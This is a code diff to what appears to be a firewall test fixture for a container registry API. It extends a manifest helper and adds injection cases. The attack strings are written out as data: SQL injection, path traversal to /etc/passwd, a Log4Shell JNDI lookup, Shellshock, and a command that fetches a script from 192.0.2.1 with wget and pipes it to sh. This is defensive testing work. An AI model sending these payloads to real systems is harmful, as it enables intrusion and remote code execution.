@@ -32,9 +32,9 @@ const agent = (text: string) => `User-Agent: ${text}`;
 const lookup = (text: string) => `\${${text}}`;
 const ldap = lookup("jndi:ldap://192.0.2.1/a");
 
-/** A manifest of the right type with this text where a media type belongs. */
-function manifest(title: string, rule: number, mediaType: string): Attack {
-  const body = JSON.stringify({ schemaVersion: 2, mediaType });
+/** A manifest of the right type with this text where a digest belongs, or in another field. */
+function manifest(title: string, rule: number, text: string, field = "digest"): Attack {
+  const body = JSON.stringify({ schemaVersion: 2, config: { [field]: text } });
   const type = "Content-Type: application/vnd.oci.image.manifest.v1+json";
   return attack(title, push, rule, [type, `Content-Length: ${body.length}`], body);
 }
@@ -50,6 +50,7 @@ export const attacks: { readonly [family: string]: readonly Attack[] } = {
     attack("in the state of an upload", `${piece}?_state=1%27%3B%20DROP%20TABLE%20blobs--`, 942),
     attack("in a cookie", catalog, 942, ["Cookie: id=1' OR '1'='1"]),
     manifest("in a manifest", 942, "1' OR '1'='1' -- "),
+    manifest("for a media type", 1300, "1' OR '1'='1' -- ", "mediaType"),
   ],
   "path traversal": [
     attack("above the root", "GET /v2/../../etc/passwd"),
@@ -127,6 +128,7 @@ export const attacks: { readonly [family: string]: readonly Attack[] } = {
     attack("Shellshock at an upload", start, 932, [agent("() { :; }; /bin/bash -c id"), none]),
     attack("at an upload", `PUT ${session}?digest=sha256:%7Cwget%20http://192.0.2.1/x%7Csh`, 932),
     manifest("in a manifest", 932, "; cat /etc/passwd"),
+    manifest("for an address", 1302, "; cat /etc/passwd", "urls"),
   ],
   "null bytes": [
     attack("in a path", "GET /v2/team/app%00/tags/list"),
